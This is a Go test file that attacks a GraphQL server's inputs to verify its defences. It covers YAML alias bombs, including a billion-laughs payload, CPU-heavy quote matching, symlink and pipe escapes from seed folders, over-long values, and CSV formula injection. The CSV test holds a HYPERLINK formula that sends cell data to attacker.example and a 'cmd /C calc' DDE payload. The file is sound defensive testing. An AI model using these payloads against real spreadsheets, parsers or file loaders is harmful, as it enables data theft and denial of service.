package main

// Attacks through the data a client or an operator hands the server: YAML
// that expands, reports whose quotes take the CPU hostage, report folders
// that reach outside themselves, and exports that a spreadsheet would run.
// Each runs the real binary (a child process when memory and CPU are
// measured, run on port 0 otherwise) and asserts a bound: memory, CPU,
// bytes out, bytes written to the data folder, or a refusal.

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net/http"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// The bounds the attacks must stay within. The server's own cost of
// starting (the bundled report, the analysis snapshot) is part of the
// memory figure.
const (
	maxPeakRSS   = 400 << 20                      // bytes resident at the peak, whole process
	maxErrorBody = 256 << 10                      // bytes of a refusal
	maxAttackCPU = 2 * time.Second * raceSlowdown // a 1 MiB request took 4 to 12 s before
)

// folderBytes adds up the sizes of the files in dir.
func folderBytes(t *testing.T, dir string) int64 {
	t.Helper()
	var n int64
	err := filepath.WalkDir(dir, func(_ string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		info, err := d.Info()
		n += info.Size()
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// post sends a GraphQL request with variables and returns the status and
// the body, counted but kept only up to keep bytes.
func post(t *testing.T, base, token, query string, vars map[string]any, keep int) (status int, n int64, body string) {
	t.Helper()
	payload, err := json.Marshal(map[string]any{"query": query, "variables": vars})
	if err != nil {
		t.Fatal(err)
	}
	req, _ := http.NewRequest(http.MethodPost, base+"/graphql", bytes.NewReader(payload))
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := (&http.Client{Timeout: 5 * time.Minute}).Do(req)
	if err != nil {
		t.Fatalf("request of %d bytes: %v", len(payload), err)
	}
	defer resp.Body.Close()
	var kept bytes.Buffer
	n, err = io.Copy(io.MultiWriter(&limitWriter{&kept, keep}, io.Discard), resp.Body)
	if err != nil {
		t.Fatalf("reading the answer: %v", err)
	}
	return resp.StatusCode, n, kept.String()
}

// limitWriter keeps the first n bytes written to it and drops the rest.
type limitWriter struct {
	buf *bytes.Buffer
	n   int
}

func (w *limitWriter) Write(p []byte) (int, error) {
	if room := w.n - w.buf.Len(); room > 0 {
		w.buf.Write(p[:min(room, len(p))])
	}
	return len(p), nil
}

const addReportMutation = `mutation($text: String!, $yaml: String!) { addReport(input: {text: $text, annotation: $yaml}) { relations evidence } }`

// annotationHead is the start of an annotation sent with addReport: its
// report block and a person and an issue whose relations the attacks state.
const annotationHead = `report:
  id: report/attack
  title: Attack
entities:
  - {id: person/p, kind: PERSON, name: P}
  - {id: issue/i, kind: ISSUE, name: I}
`

// TestAttackYAMLAliases sends annotations that reuse a big quote through
// YAML anchors and aliases. Refused, they cost little memory, a short
// answer, and nothing written; nothing of them is served afterwards.
func TestAttackYAMLAliases(t *testing.T) {
	serveIfChild(t)
	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
	quote := strings.Repeat("torture in detention ", 8_000) // 168 KB
	var ann strings.Builder
	ann.WriteString(annotationHead)
	for i := range 20 {
		fmt.Fprintf(&ann, "  - {id: person/p%d, kind: PERSON, name: P%d}\n  - {id: issue/i%d, kind: ISSUE, name: I%d}\n", i, i, i, i)
	}
	ann.WriteString("  - {id: issue/anchor, kind: ISSUE, name: Anchor, description: &q " + quoteJSON(quote) + "}\nrelations:\n")
	for i := range 400 { // 400 facts, each quoting the whole text through the alias
		fmt.Fprintf(&ann, "  - {type: RAISED, from: person/p%d, to: issue/i%d, quote: *q}\n", i/20, i%20)
	}
	written := folderBytes(t, c.dir)

	for _, tt := range []struct {
		name, text string
	}{
		{"quote not in the text: every problem would repeat it", "A short text."},
		{"quote in the text: every relation would store it", quote},
	} {
		t.Run(tt.name, func(t *testing.T) {
			var status int
			var n int64
			var body string
			peak, cpu := c.measure(func() {
				status, n, body = post(t, c.base, c.token, addReportMutation, map[string]any{"text": tt.text, "yaml": ann.String()}, 4096)
			})
			t.Logf("request %d KB: answer %d bytes (status %d), peak RSS %d MB, CPU %v", (len(ann.String())+len(tt.text))>>10, n, status, peak>>20, cpu)
			if !strings.Contains(body, "anchors and aliases are not allowed") {
				t.Errorf("answer %.300s…, want anchors and aliases refused", body)
			}
			if n > maxErrorBody {
				t.Errorf("answer of %d bytes, want at most %d", n, maxErrorBody)
			}
			if peak > maxPeakRSS {
				t.Errorf("peak RSS %d MB, want at most %d MB", peak>>20, maxPeakRSS>>20)
			}
		})
	}
	if grew := folderBytes(t, c.dir) - written; grew != 0 {
		t.Errorf("the data folder grew by %d bytes, want nothing written", grew)
	}
	_, n, _ := post(t, c.base, "", `{ entity(id: "person/p0") { relations { evidence { quote } } } }`, nil, 0)
	if n > 4096 {
		t.Errorf("an anonymous query read %d bytes of what was refused", n)
	}

	t.Run("nested aliases through seed", func(t *testing.T) {
		dir := t.TempDir()
		var laughs strings.Builder
		laughs.WriteString("report:\n  id: report/attack\n  title: Attack\nlol0: &l0 [\"" + strings.Repeat("lol", 100) + "\"]\n")
		for i := 1; i <= 9; i++ {
			fmt.Fprintf(&laughs, "lol%d: &l%d [%s]\n", i, i, strings.TrimSuffix(strings.Repeat(fmt.Sprintf("*l%d,", i-1), 10), ","))
		}
		laughs.WriteString("entities:\n  - {id: issue/laugh, kind: ISSUE, name: Laugh, aliases: *l9}\nrelations: []\n")
		writeTestFile(t, filepath.Join(dir, "laughs.yaml"), laughs.String())
		var stdout, stderr bytes.Buffer
		err := run(context.Background(), []string{"seed", "-dry-run", dir}, env(nil), &stdout, &stderr)
		out := stderr.String() + errString(err)
		t.Logf("seed: %d bytes of output: %.200s", len(out), out)
		if err == nil || !strings.Contains(out, "laughs.yaml:4: anchors and aliases are not allowed") {
			t.Errorf("seed = %v, want laughs.yaml:4: anchors and aliases are not allowed", err)
		}
		if len(out) > maxErrorBody {
			t.Errorf("seed wrote %d bytes of problems, want at most %d", len(out), maxErrorBody)
		}
	})
}

// TestAttackManyProblems sends an annotation of many long quotes that the
// text does not hold: the answer reports a bounded number of problems, each
// quote cut short.
func TestAttackManyProblems(t *testing.T) {
	serveIfChild(t)
	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
	var ann strings.Builder
	ann.WriteString(annotationHead + "relations:\n")
	for i := 0; ann.Len() < 900_000; i++ {
		fmt.Fprintf(&ann, "  - {type: RAISED, from: person/p, to: issue/i, quote: %q}\n", fmt.Sprint(i)+strings.Repeat(" words the report never says", 150))
	}
	status, n, body := post(t, c.base, c.token, addReportMutation, map[string]any{"text": "A short text.", "yaml": ann.String()}, 1<<20)
	t.Logf("request %d KB: answer %d bytes (status %d)", ann.Len()>>10, n, status)
	if !strings.Contains(body, "quote not found") || !strings.Contains(body, "…") {
		t.Errorf("answer %.300s…, want quotes not found, cut short", body)
	}
	if n > maxErrorBody {
		t.Errorf("answer of %d bytes, want at most %d", n, maxErrorBody)
	}
}

// TestAttackQuoteCPU sends reports of about 1 MiB whose quotes made quote
// location quadratic: quotes that overlap themselves in a repetitive text,
// many near misses, and many distinct quotes each found once. Each costs
// the server a bounded amount of CPU.
func TestAttackQuoteCPU(t *testing.T) {
	serveIfChild(t)
	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
	size := 1 << 20
	if s := os.Getenv("ATTACK_SIZE"); s != "" { // to measure smaller attacks
		size, _ = strconv.Atoi(s)
	}
	for _, tt := range []struct {
		name string
		make func(size int) (text string, relations []string)
	}{
		{"a quote that overlaps itself in a text of one letter", func(size int) (string, []string) {
			text := strings.Repeat("a", size*9/20)
			quote := strings.Repeat("a", 4_000)
			var rels []string
			for i := 0; len(rels)*(len(quote)+80) < size*9/20-4096; i++ {
				rels = append(rels, fmt.Sprintf("{type: RAISED, from: person/p, to: issue/i, quote: %s, occurrence: %d}", quote, i+1))
			}
			return text, rels
		}},
		{"many distinct quotes the text almost holds", func(size int) (string, []string) {
			text := strings.Repeat("a", size*9/20)
			var rels []string
			for i := 0; len(rels)*90 < size*9/20-4096; i++ {
				rels = append(rels, fmt.Sprintf("{type: RAISED, from: person/p, to: issue/i, quote: %s%d}", strings.Repeat("a", 30), i))
			}
			return text, rels
		}},
		{"many distinct quotes found once each", func(size int) (string, []string) {
			var text strings.Builder
			var rels []string
			for i := 0; text.Len() < size*9/20-100; i++ {
				word := strings.Repeat("a", 30) + strconv.Itoa(i) + " "
				text.WriteString(word)
				if len(rels)*90 < size*9/20-4096 {
					rels = append(rels, fmt.Sprintf("{type: RAISED, from: person/p, to: issue/i, quote: %q}", word))
				}
			}
			return text.String(), rels
		}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			text, rels := tt.make(size)
			ann := annotationHead + "relations:\n  - " + strings.Join(rels, "\n  - ") + "\n"
			var status int
			var n int64
			var body string
			peak, cpu := c.measure(func() {
				status, n, body = post(t, c.base, c.token, addReportMutation, map[string]any{"text": text, "yaml": ann}, 600)
			})
			t.Logf("request %d KB (%d relations): CPU %v, peak RSS %d MB, answer %d bytes (status %d): %.200s",
				(len(text)+len(ann))>>10, len(rels), cpu, peak>>20, n, status, body)
			if cpu > maxAttackCPU {
				t.Errorf("CPU %v, want at most %v", cpu, maxAttackCPU)
			}
			if peak > maxPeakRSS {
				t.Errorf("peak RSS %d MB, want at most %d MB", peak>>20, maxPeakRSS>>20)
			}
		})
	}
	t.Run("addRelation quoting what overlaps itself at every character", func(t *testing.T) {
		text := strings.Repeat("a", size*9/10)
		if status, _, body := post(t, c.base, c.token, addReportMutation, map[string]any{"text": text, "yaml": annotationHead + "relations: []\n"}, 600); status != http.StatusOK || strings.Contains(body, `"errors"`) {
			t.Fatalf("addReport: %d %s", status, body)
		}
		q := `mutation($q: String!, $n: Int) { addRelation(input: {from: "person/p", to: "issue/i", type: RAISED,
			evidence: {report: "report/attack", quote: $q, occurrence: $n}}) { relation { evidence { start } } } }`
		quote := strings.Repeat("a", 5_000)
		var bodies []string
		peak, cpu := c.measure(func() {
			for _, n := range []int{1, len(text) / 2, len(text) - len(quote) + 1} {
				_, _, body := post(t, c.base, c.token, q, map[string]any{"q": quote, "n": n}, 600)
				bodies = append(bodies, body)
			}
		})
		t.Logf("3 relations quoting 5,000 characters of a text of %d KB: CPU %v, peak RSS %d MB: %.200s", len(text)>>10, cpu, peak>>20, bodies)
		if !strings.Contains(bodies[2], fmt.Sprintf(`"start":%d`, len(text)-len(quote))) {
			t.Errorf("the last occurrence: %s", bodies[2])
		}
		if cpu > maxAttackCPU {
			t.Errorf("CPU %v, want at most %v", cpu, maxAttackCPU)
		}
	})
}

// TestAttackSeedFolder gives seed report folders that point outside
// themselves, or at files that never end: each is refused, at once, and
// nothing is loaded.
func TestAttackSeedFolder(t *testing.T) {
	secretDir := t.TempDir()
	secret := filepath.Join(secretDir, "secret.txt")
	writeTestFile(t, secret, "A secret that must never become Report.text.")
	annotation := func(text string) string {
		return "report:\n  id: report/leak\n  title: Leak\n  text: " + text + "\nentities: []\nrelations: []\n"
	}
	for _, tt := range []struct {
		name  string
		setup func(t *testing.T, dir string) // writes leak.yaml and what it names
		want  string
	}{
		{"text is a link to a file outside", func(t *testing.T, dir string) {
			writeTestFile(t, filepath.Join(dir, "leak.yaml"), annotation("leak.txt"))
			symlink(t, secret, filepath.Join(dir, "leak.txt"))
		}, "leak.yaml:4: report text leak.txt: not a regular file"},
		{"text is a link to /dev/zero", func(t *testing.T, dir string) {
			writeTestFile(t, filepath.Join(dir, "leak.yaml"), annotation("zero.txt"))
			symlink(t, "/dev/zero", filepath.Join(dir, "zero.txt"))
		}, "leak.yaml:4: report text zero.txt: not a regular file"},
		{"text is a pipe", func(t *testing.T, dir string) {
			writeTestFile(t, filepath.Join(dir, "leak.yaml"), annotation("pipe.txt"))
			if err := syscall.Mkfifo(filepath.Join(dir, "pipe.txt"), 0o644); err != nil {
				t.Fatal(err)
			}
		}, "leak.yaml:4: report text pipe.txt: not a regular file"},
		{"text is reached through a linked folder", func(t *testing.T, dir string) {
			writeTestFile(t, filepath.Join(dir, "leak.yaml"), annotation("outside/secret.txt"))
			symlink(t, secretDir, filepath.Join(dir, "outside"))
		}, "leak.yaml:4: report text outside/secret.txt:"},
		{"text is too big", func(t *testing.T, dir string) {
			writeTestFile(t, filepath.Join(dir, "leak.yaml"), annotation("big.txt"))
			if err := os.WriteFile(filepath.Join(dir, "big.txt"), nil, 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Truncate(filepath.Join(dir, "big.txt"), 6<<20); err != nil { // sparse: costs no disk
				t.Fatal(err)
			}
		}, "leak.yaml:4: report text big.txt: larger than"},
		{"the annotation is a link to a file outside", func(t *testing.T, dir string) {
			outside := filepath.Join(t.TempDir(), "real.yaml")
			writeTestFile(t, outside, annotation("secret.txt"))
			writeTestFile(t, filepath.Join(filepath.Dir(outside), "secret.txt"), "A secret.")
			symlink(t, outside, filepath.Join(dir, "leak.yaml"))
		}, "leak.yaml: not a regular file"},
		{"the annotation is a pipe", func(t *testing.T, dir string) {
			if err := syscall.Mkfifo(filepath.Join(dir, "leak.yaml"), 0o644); err != nil {
				t.Fatal(err)
			}
		}, "leak.yaml: not a regular file"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := t.TempDir()
			tt.setup(t, dir)
			getenv := env(nil)
			for _, target := range []string{dir, filepath.Join(dir, "leak.yaml")} {
				done := make(chan error, 1)
				var stdout, stderr syncBuffer
				go func() { done <- run(context.Background(), []string{"seed", target}, getenv, &stdout, &stderr) }()
				var err error
				select {
				case err = <-done:
				case <-time.After(30 * time.Second):
					t.Fatalf("seed %s still runs after 30 s", target)
				}
				out := stderr.String() + errString(err)
				if err == nil || !strings.Contains(out, tt.want) {
					t.Errorf("seed %s = %v\n%s\nwant an error with %q", target, err, out, tt.want)
				}
			}
			var stdout bytes.Buffer
			if err := run(context.Background(), []string{"export", "-format", "cyjs"}, getenv, &stdout, io.Discard); err != nil {
				t.Fatal(err)
			}
			if strings.Contains(stdout.String(), "report/leak") || strings.Contains(stdout.String(), "secret") {
				t.Errorf("the store holds the refused report: %.300s", stdout.String())
			}
		})
	}
}

func symlink(t *testing.T, target, link string) {
	t.Helper()
	if err := os.Symlink(target, link); err != nil {
		t.Fatal(err)
	}
}

// TestAttackCSVFormulas gives entities and relations names, aliases, roles
// and descriptions that a spreadsheet would run as formulas, and reads the
// CSV export served over HTTP: no cell starts a formula, and aliases read
// back as they were.
func TestAttackCSVFormulas(t *testing.T) {
	serveIfChild(t)
	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
	hostile := []string{`=HYPERLINK("http://attacker.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"}
	aliases := append([]string{"Alpha; Beta", `Quote "and" comma,`}, hostile[1:]...)
	for _, q := range []string{
		fmt.Sprintf(`mutation { upsertEntity(input: {id: "organisation/formula", kind: ORGANISATION, name: %s, aliases: %s, description: %s}) { entity { id } } }`,
			quoteJSON(hostile[0]), mustJSON(aliases), quoteJSON(hostile[3])),
		`mutation { addRelation(input: {from: "person/natalya-taubina", to: "organisation/formula", type: MEMBER_OF, role: "=1+1",
			evidence: {report: "report/2017-11-moscow-human-rights-congress", quote: "Natalya Taubina"}}) { relation { id } } }`,
	} {
		status, _, body := post(t, c.base, c.token, q, nil, 1<<16)
		if status != http.StatusOK || strings.Contains(body, `"errors"`) {
			t.Fatalf("%s: %d %s", q, status, body)
		}
	}
	resp, err := http.Get(c.base + "/export?format=csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	raw, _ := io.ReadAll(resp.Body)
	zr, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	formulas := 0
	var gotAliases []string
	for _, f := range zr.File {
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(rc).ReadAll()
		rc.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					formulas++
					t.Errorf("%s: a cell starts a formula: %q", f.Name, cell)
				}
			}
			if f.Name == "nodes.csv" && row[0] == "organisation/formula" {
				if row[1] != "'"+hostile[0] || row[4] != "'"+hostile[3] {
					t.Errorf("name %q, description %q: want them with a leading '", row[1], row[4])
				}
				if err := json.Unmarshal([]byte(strings.TrimPrefix(row[3], "'")), &gotAliases); err != nil {
					t.Errorf("aliases %q: %v, want a JSON array", row[3], err)
				}
			}
		}
	}
	t.Logf("%d cells start a formula; aliases read back as %q", formulas, gotAliases)
	if len(gotAliases) != len(aliases) || gotAliases[0] != "Alpha; Beta" {
		t.Errorf("aliases read back as %q, want %q", gotAliases, aliases)
	}
}

func mustJSON(v any) string {
	b, _ := json.Marshal(v)
	return string(b)
}

// writeTestFile writes a file, failing the test on error.
func writeTestFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

// startEditor runs serve on port 0 over a fresh data folder and returns its
// base URL and an editor's token.
func startEditor(t *testing.T) (base, token string) {
	t.Helper()
	getenv := env(map[string]string{"RIGHTSGRAPH_DATA": t.TempDir(), "RIGHTSGRAPH_RATE_LIMIT": "0"})
	var out bytes.Buffer
	if err := run(context.Background(), []string{"token", "create", "-role", "editor", "-name", "attacker"}, getenv, &out, io.Discard); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
	base, _ = startServerWith(t, getenv)
	waitReady(t, base)
	return base, lines[len(lines)-1]
}

// TestAttackLongValues sends names, aliases, descriptions, roles and quotes
// longer than their limits through every way in: each is refused with the
// field named, and a short answer.
func TestAttackLongValues(t *testing.T) {
	base, token := startEditor(t)
	long := func(n int) string { return strings.Repeat("x", n) }
	var aliases []string
	for i := range 101 {
		aliases = append(aliases, fmt.Sprintf("alias %d", i))
	}
	const seedQuote = "Natalya Taubina, director of the Public Verdict foundation"
	for _, tt := range []struct {
		name, q string
		vars    map[string]any
		field   string
	}{
		{"a long name", `mutation($v: String!) { upsertEntity(input: {id: "person/long", kind: PERSON, name: $v}) { entity { id } } }`,
			map[string]any{"v": long(301)}, "input.name"},
		{"a long alias", `mutation($v: [String!]) { upsertEntity(input: {id: "person/long", kind: PERSON, name: "L", aliases: $v}) { entity { id } } }`,
			map[string]any{"v": []string{long(301)}}, "input.aliases"},
		{"too many aliases", `mutation($v: [String!]) { upsertEntity(input: {id: "person/long", kind: PERSON, name: "L", aliases: $v}) { entity { id } } }`,
			map[string]any{"v": aliases}, "input.aliases"},
		{"a long description", `mutation($v: String) { upsertEntity(input: {id: "person/long", kind: PERSON, name: "L", description: $v}) { entity { id } } }`,
			map[string]any{"v": long(10_001)}, "input.description"},
		{"a long role", `mutation($v: String) { addRelation(input: {from: "person/natalya-taubina", to: "organisation/public-verdict-foundation", type: LEADS, role: $v,
			evidence: {report: "report/2017-11-moscow-human-rights-congress", quote: "` + seedQuote + `"}}) { relation { id } } }`,
			map[string]any{"v": long(201)}, "input.role"},
		{"a long quote", `mutation($v: String!) { addRelation(input: {from: "person/natalya-taubina", to: "organisation/public-verdict-foundation", type: LEADS,
			evidence: {report: "report/2017-11-moscow-human-rights-congress", quote: $v}}) { relation { id } } }`,
			map[string]any{"v": long(5_001)}, "input.evidence.quote"},
		{"a long name in a report", addReportMutation, map[string]any{"text": "P raised I.",
			"yaml": strings.Replace(annotationHead, "name: P}", "name: "+long(301)+"}", 1) + "relations: []\n"}, "input.annotation"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			status, n, body := post(t, base, token, tt.q, tt.vars, 1<<16)
			var a struct {
				Errors []struct {
					Message    string
					Extensions map[string]any
				}
			}
			if err := json.Unmarshal([]byte(body), &a); err != nil || len(a.Errors) == 0 {
				t.Fatalf("%d %s: want an error", status, body)
			}
			if f := a.Errors[0].Extensions["field"]; f != tt.field || a.Errors[0].Extensions["code"] != "BAD_USER_INPUT" {
				t.Errorf("%s: want BAD_USER_INPUT on %s", body, tt.field)
			}
			if !strings.Contains(a.Errors[0].Message, "more than") || n > 4096 {
				t.Errorf("answer of %d bytes: %.300s, want a short message saying the limit", n, body)
			}
		})
	}
	t.Run("a long role through seed", func(t *testing.T) {
		dir := t.TempDir()
		writeTestFile(t, filepath.Join(dir, "r.txt"), "P raised I.")
		writeTestFile(t, filepath.Join(dir, "r.yaml"), strings.Replace(annotationHead, "title: Attack", "title: Attack\n  text: r.txt", 1)+
			"relations:\n  - type: RAISED\n    from: person/p\n    to: issue/i\n    quote: P raised I\n    role: "+long(201)+"\n")
		var stderr bytes.Buffer
		err := run(context.Background(), []string{"seed", "-dry-run", dir}, env(nil), io.Discard, &stderr)
		if out := stderr.String() + errString(err); !strings.Contains(out, "r.yaml:13: evidence: role is 201 characters long, more than 200") {
			t.Errorf("seed = %v\n%s\nwant r.yaml:13 refusing the role", err, out)
		}
	})
}
